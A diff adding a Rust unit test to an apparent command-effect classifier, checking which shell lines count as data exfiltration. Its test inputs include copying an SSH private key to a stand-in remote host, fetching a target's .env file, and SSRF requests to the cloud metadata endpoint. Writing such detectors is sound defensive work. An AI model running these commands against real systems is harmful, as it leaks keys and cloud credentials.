@@ -249,3 +249,23 @@ fn ordinary_commands_do_nothing() {
         assert!(kinds(text).is_empty(), "{text}: {:?}", kinds(text));
     }
 }
+
+#[test]
+fn keys_used_to_log_in_restored_tables_and_ssrf_parameters_are_not_effects() {
+    assert!(
+        kinds("scp -P 22 -i ~/.ssh/id_ed25519 /tmp/step.sh user@host:/tmp/step.sh\n").is_empty()
+    );
+    assert!(kinds("ssh -i ~/.ssh/id_ed25519 user@host \"bash /tmp/step.sh\"\n").is_empty());
+    assert_eq!(
+        kinds("scp ~/.ssh/id_ed25519 user@x.example:/tmp/\n"),
+        ["exfil:scp"]
+    );
+    assert!(kinds("crontab -l > /tmp/cron_backup\ncrontab /tmp/cron_backup\n").is_empty());
+    assert!(kinds("ssh -p 22 admin@host \"cp ~/.ssh/authorized_keys /home/u/.ssh/\"\n").is_empty());
+    assert!(kinds("curl -sk 'https://target.example/.env'\n").is_empty());
+    assert!(
+        kinds("curl 'https://target.example/fetch?url=http://169.254.169.254/latest/meta-data/'\n")
+            .is_empty()
+    );
+    assert!(kinds("http://169.254.169.254/latest/user-data\n").is_empty());
+}
